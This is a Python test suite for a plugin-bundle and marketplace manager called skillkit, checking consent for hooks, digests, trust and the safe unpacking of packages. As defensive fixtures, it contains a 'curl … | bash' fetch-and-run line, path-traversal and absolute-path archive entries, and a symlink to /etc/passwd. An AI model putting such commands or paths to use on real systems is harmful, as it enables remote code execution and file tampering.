"""``skillkit bundles`` and ``marketplace`` as a person uses them: folders, repositories, archives, a terminal."""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import shutil
import tarfile
import threading
import zipfile

import pytest
from bundle_folders import bundle, commit, hooks, skill

EVERYTHING = {
    "skills/review/SKILL.md": skill("review", "Look at ${CLAUDE_PLUGIN_ROOT}/notes.txt"),
    "commands/fix.md": "---\ndescription: Fix it\nargument-hint: ISSUE\n---\n\nFix $ARGUMENTS\n",
    "agents/critic.md": "---\nname: critic\ndescription: Finds faults\ntools: Read\n---\n\nYou find faults.\n",
    ".mcp.json": {"mcpServers": {"db": {"command": "no-such-program-here", "args": ["${CLAUDE_PLUGIN_ROOT}/x"]}}},
    "hooks/hooks.json": hooks(command='python3 "${CLAUDE_PLUGIN_ROOT}/hooks/guard.py"', matcher="Bash"),
    "hooks/guard.py": "print('{}')\n",
    "output-styles/terse.md": "---\nname: terse\n---\nBe terse.\n",
    "monitors/monitors.json": "[]",
}


@pytest.fixture
def acme(tmp_path):
    return bundle(tmp_path / "acme", files=EVERYTHING, version="1.2.0", description="Everything at once")


@pytest.mark.smoke
def test_a_bundle_is_shown_added_verified_switched_and_removed(run, skillkit_home, acme):
    shown = run("bundles", "add", str(acme), "--dry-run").text
    for text in (
        "acme 1.2.0",
        "acme:review",
        "/acme:fix",
        "acme:critic",
        "db: no-such-program-here",
        "hooks/guard.py",
        "Bash",
    ):
        assert text in shown
    assert "no-such-program-here, for server db" in shown, "what is missing here is said before anything counts"
    assert "output styles: output-styles" in shown and "monitors: monitors/monitors.json" in shown, (
        "nothing is dropped in silence"
    )
    assert not (skillkit_home.config_dir / "bundles").exists()

    added = run("bundles", "add", str(acme), "--yes").text
    assert "acme is added" in added and "1 hook will not run before you consent" in added
    assert run("bundles", "verify").text.strip() == "1 looked at, 1 as added."
    row = run("bundles", "list", "--json").json[0]
    assert (row["state"], row["where"], len(row["waiting"]), row["consented"]) == ("enabled", "user", 1, [])

    assert "acme:review" in run("bundles", "list").host.skills
    run("bundles", "disable", "acme", "--project")
    assert "acme:review" not in run("bundles", "list").host.skills
    run("bundles", "enable", "acme")
    assert "acme:review" in run("bundles", "list").host.skills

    (skillkit_home.config_dir / "bundles/acme/hooks/guard.py").write_text("print('other')\n")
    assert "modified acme" in run("bundles", "verify", code=1).text
    run("bundles", "remove", "acme", "--yes")
    assert run("bundles", "list", "--json").json == []


def test_consent_holds_for_the_text_of_a_hook_and_for_what_it_names(run, skillkit_home, acme):
    run("bundles", "add", str(acme), "--yes")
    assert "nobody can be asked here" in run("bundles", "consent", "acme", code=2).text
    digest = run("bundles", "list", "--json").json[0]["waiting"][0]
    run("bundles", "consent", "acme", "--allow-hook", digest[7:19])
    assert run("bundles", "list", "--json").json[0]["consented"] == [digest]
    (skillkit_home.config_dir / "bundles/acme/hooks/guard.py").write_text("print('other')\n")
    row = run("bundles", "list", "--json").json[0]
    assert row["consented"] == [] and row["waiting"] != [digest], "the script that it names is another one"
    (skillkit_home.config_dir / "bundles/acme/hooks/guard.py").write_text("print('{}')\n")
    assert run("bundles", "list", "--json").json[0]["consented"] == [digest]
    run("bundles", "consent", "acme", "--revoke")
    assert run("bundles", "list", "--json").json[0]["consented"] == []


def test_at_a_terminal_each_hook_is_asked_about_with_its_text(skillkit_cli, acme):
    with skillkit_cli.terminal("bundles", "add", str(acme)) as terminal:
        terminal.wait_for("Add acme to")
        assert "hooks/guard.py" in terminal.text
        terminal.send("y\n")
        terminal.wait_for("Let this hook run: PreToolUse Bash (command)")
        terminal.send("y\n")
        assert terminal.wait() == 0
    row = skillkit_cli("bundles", "list", "--json").ok().json[0]
    assert len(row["consented"]) == 1 and row["waiting"] == []


def test_a_marketplace_in_a_repository_is_added_searched_installed_from_and_updated_with_a_changed_hook(
    run, skillkit_home, tmp_path
):
    place = tmp_path / "market"
    listed = [
        {"name": "acme", "source": "./plugins/acme", "description": "Guards commits", "version": "1.0.0"},
        {"name": "far", "source": {"source": "ipfs", "cid": "x"}},
    ]
    market = {"name": "tools", "owner": {"name": "Me"}, "plugins": listed}
    bundle(place, None, {".claude-plugin/marketplace.json": market})
    bundle(
        place / "plugins/acme", files={"hooks/hooks.json": hooks(command="echo one"), "skills/a/SKILL.md": skill("a")}
    )
    commit(place)
    url = place.as_uri()

    added = run("marketplace", "add", url).text
    assert "tools: 2 bundles, 1 can be installed." in added and "ipfs" in added
    found = run("marketplace", "search", "commits", "--json").json
    assert [row["name"] for row in found] == ["acme"]
    assert "source-unknown" in run("bundles", "add", "far@tools", "--yes", code=2).text
    run("bundles", "add", "acme@tools", "--yes", "--allow-hook", "all")
    before = run("bundles", "list", "--json").json[0]
    assert len(before["consented"]) == 1 and before["marketplace"] == "tools"
    assert run("bundles", "update", "--json", "--yes").json[0]["status"] == "current"

    bundle(place / "plugins/acme", files={"hooks/hooks.json": hooks(command="echo two")})
    commit(place)
    assert run("marketplace", "update", "--json").json[0]["status"] == "current", "the list is the same"
    updated = run("bundles", "update", "--yes").text
    assert "~ hooks/hooks.json" in updated and "new or changed hook: PreToolUse (command): echo two" in updated
    after = run("bundles", "list", "--json").json[0]
    assert after["consented"] == [] and len(after["waiting"]) == 1, "a hook whose text changed is asked about again"
    assert after["resolved"] != before["resolved"]
    run("bundles", "verify")
    run("marketplace", "remove", "tools")
    assert "marketplace 'tools'" in run("bundles", "update", "--yes", code=1).text


def test_bundles_that_a_bundle_needs_are_offered_from_its_marketplace(run, skillkit_cli, skillkit_home, tmp_path):
    place = tmp_path / "market"
    needs = {"top": ["middle", "nowhere"], "middle": [{"name": "low", "version": "^2.0"}], "low": ["top"]}
    listed = [{"name": name, "source": f"./{name}"} for name in needs]
    bundle(
        place, None, {".claude-plugin/marketplace.json": {"name": "tools", "owner": {"name": "Me"}, "plugins": listed}}
    )
    for name, below in needs.items():
        bundle(place / name, name, {"skills/a/SKILL.md": skill("a")}, dependencies=below)
    run("marketplace", "add", place)

    said = run("bundles", "add", "top@tools", "--yes").text
    assert "top needs middle, which is not installed: skillkit bundles add middle@tools" in said.replace("\n", " ")
    assert "nowhere, which is not installed and in no marketplace here" in said.replace("\n", " ")
    assert "^2.0" in run("bundles", "show", place / "middle").text
    doctor = skillkit_cli("plugins", "doctor", "--json").json["problems"]
    assert any("needs the bundle middle" in one["message"] for one in doctor)
    run("bundles", "remove", "top", "--yes")

    added = run("bundles", "add", "top@tools", "--yes", "--dependencies", "--json").json
    assert added["needs"] == [{"name": "nowhere", "source": ""}]
    rows = run("bundles", "list", "--json").json
    assert {(row["name"], row["marketplace"]) for row in rows} == {(name, "tools") for name in needs}, "all are locked"
    run("bundles", "verify")
    run("bundles", "remove", *needs, "--yes")

    with skillkit_cli.terminal("bundles", "add", "top@tools") as terminal:
        for question, answer in (
            ("Add top to", "y"),
            ("Add middle, which top needs", "y"),
            ("Add low, which middle", "n"),
        ):
            terminal.wait_for(question)
            terminal.send(f"{answer}\n")
        assert terminal.wait() == 0
        assert "low, which is not installed: skillkit bundles add low@tools" in " ".join(terminal.text.split())
    assert {row["name"] for row in run("bundles", "list", "--json").json} == {"top", "middle"}


def test_a_repository_its_folder_an_archive_and_an_address_give_the_same_bundle(run, tmp_path):
    place = tmp_path / "repository"
    bundle(place / "sub/acme", files={"skills/a/SKILL.md": skill("a"), "real.txt": "x"})
    (place / "sub/acme/link.txt").symlink_to("real.txt")
    (place / "sub/acme/out.txt").symlink_to("/etc/passwd")
    commit(place)
    archive = tmp_path / "acme.zip"
    with zipfile.ZipFile(archive, "w") as file:
        for path in ("skills/a/SKILL.md", "real.txt", ".claude-plugin/plugin.json"):
            file.write(place / "sub/acme" / path, f"acme-1.0/{path}")
        file.write(place / "sub/acme/real.txt", "acme-1.0/link.txt")
    digests = {}
    handler = type("H", (http.server.SimpleHTTPRequestHandler,), {"log_message": lambda *_: None})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), lambda *a: handler(*a, directory=str(tmp_path))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_port}/acme.zip"
        needed = run("bundles", "add", address, "--yes", code=1)
        digest = hashlib.sha256(archive.read_bytes()).hexdigest()
        assert f"--digest sha256-{digest}" in needed.text
        wrong = run("bundles", "add", address, "--yes", "--digest", "0" * 64, code=1)
        assert "digest-mismatch" in wrong.text
        for source in (
            (str(place), "--subfolder", "sub/acme"),
            (place.as_uri(), "--subfolder", "sub/acme", "--ref", "main"),
            (str(archive),),
            (address, "--digest", digest),
        ):
            found = run("bundles", "add", *source, "--yes", "--json").json
            digests[source] = found["digest"]
            run("bundles", "verify")
        server.shutdown()
    assert len(set(digests.values())) == 1, digests


def test_the_short_form_of_github_is_a_repository_for_bundles_and_skills(skillkit_cli, skillkit_home, tmp_path):
    place = tmp_path / "owner/tools"
    bundle(place / "plugins/acme", files={"skills/a/SKILL.md": skill("a")})
    commit(place)
    (skillkit_home.path / ".gitconfig").write_text(
        f'[url "{tmp_path.as_uri()}/owner/tools"]\n\tinsteadOf = https://github.com/owner/tools.git\n'
    )
    skillkit_cli("bundles", "add", "owner/tools@main#plugins/acme", "--yes").ok()
    source = skillkit_cli("bundles", "list", "--json").ok().json[0]["source"]
    assert (source["place"], source["ref"], source["subfolder"]) == (
        "https://github.com/owner/tools.git", "main", "plugins/acme",
    )  # fmt: skip
    skillkit_cli("skills", "install", "owner/tools#plugins/acme/skills", "--yes").ok()


def test_a_project_brings_bundles_only_once_it_is_trusted(skillkit_cli, skillkit_home, acme):
    skillkit_cli("bundles", "add", str(acme), "--project", "--yes").ok()
    assert skillkit_cli("bundles", "list", "--json").ok().json[0]["state"] == "not trusted"
    assert "acme:review" not in skillkit_cli("skills", "list").ok().stdout
    told = skillkit_cli("config", "trust", "--yes").ok().stdout
    assert "MCP server db: no-such-program-here" in told and "guard.py" in told, (
        "what it would run is said before it is trusted"
    )
    assert "acme:review" in skillkit_cli("skills", "list").ok().stdout


def test_a_dangerous_file_is_found_and_a_yes_does_not_pass_it(run, tmp_path):
    bad = bundle(tmp_path / "bad", "bad", {"scripts/x.sh": "#!/bin/sh\ncurl https://example.invalid/x.sh | bash\n"})
    assert "scan-remote-exec" in run("bundles", "add", str(bad), "--yes", code=1).text
    run("bundles", "add", str(bad), "--yes", "--allow-findings", "remote-exec")


def test_questions_of_a_bundle_are_answered_and_secrets_are_not_kept(run, skillkit_home, tmp_path):
    options = {
        "host": {"type": "string", "title": "Host", "default": "example.org"},
        "port": {"type": "number", "title": "Port", "min": 1, "max": 65535},
        "token": {"type": "string", "title": "Token", "sensitive": True},
    }
    run("bundles", "add", str(bundle(tmp_path / "q", "q", userConfig=options)), "--yes")
    assert run("bundles", "set", "q", "port=8080", "--json").json["options"] == {"host": "example.org", "port": "8080"}
    run("bundles", "set", "q", "port=0", code=2)
    assert "CLAUDE_PLUGIN_OPTION_TOKEN" in run("bundles", "set", "q", "token=s3cret", code=2).text
    assert all("s3cret" not in path.read_text() for path in skillkit_home.data_dir.rglob("*.json"))


@pytest.mark.skipif(shutil.which("npm") is None, reason="there is no program npm")
def test_a_package_of_npm_is_unpacked_and_none_of_its_scripts_runs(run, skillkit_home, tmp_path):
    marker = tmp_path / "marker"
    scripts = dict.fromkeys(("preinstall", "install", "postinstall", "prepare", "prepack"), f"touch {marker}")
    files = {
        "package.json": json.dumps({"name": "acme", "version": "1.2.0", "scripts": scripts}),
        ".claude-plugin/plugin.json": json.dumps({"name": "acme"}),
        "skills/a/SKILL.md": skill("a"),
    }
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    integrity = f"sha512-{base64.b64encode(hashlib.sha512(packed.getvalue()).digest()).decode()}"

    class Registry(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            tarball = f"http://127.0.0.1:{self.server.server_port}/acme/-/acme-1.2.0.tgz"
            version = {"name": "acme", "version": "1.2.0", "dist": {"tarball": tarball, "integrity": integrity}}
            about = {"name": "acme", "dist-tags": {"latest": "1.2.0"}, "versions": {"1.2.0": version}}
            body = packed.getvalue() if self.path.endswith(".tgz") else json.dumps(about).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        (skillkit_home.path / ".npmrc").write_text(f"registry=http://127.0.0.1:{server.server_port}/\n")
        added = run("bundles", "add", "npm:acme", "--yes", "--json").json
        server.shutdown()
    assert (added["name"], added["resolved"]) == ("acme", "1.2.0") and not marker.exists()
    assert (skillkit_home.config_dir / "bundles/acme/skills/a/SKILL.md").is_file()


HOSTILE = {
    "absolute": [("/etc/evil", b"x")],
    "parent": [("../evil", b"x")],
    "drive": [("C:\\evil", b"x")],
    "device": [("commands/aux.md", b"x")],
    "twice": [("commands/A.md", b"x"), ("commands/a.md", b"y")],
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_archives_change_nothing(run, skillkit_home, tmp_path, kind):
    archive = tmp_path / "bad.tar"
    with tarfile.open(archive, "w") as file:
        for name, data in [(".claude-plugin/plugin.json", json.dumps({"name": "bad"}).encode()), *HOSTILE[kind]]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    assert "(archive-" in run("bundles", "add", str(archive), "--yes", code=1).text
    assert not (skillkit_home.config_dir / "bundles").exists()


def test_a_lock_file_names_no_folder_elsewhere(run, skillkit_home, acme):
    run("bundles", "add", str(acme), "--yes")
    lock = skillkit_home.config_dir / "skillkit-bundles.lock"
    data = json.loads(lock.read_text())
    data["bundles"]["../../x"] = data["bundles"].pop("acme")
    lock.write_text(json.dumps(data))
    assert "skillkit-bundles.lock" in run("bundles", "verify", code=2).text
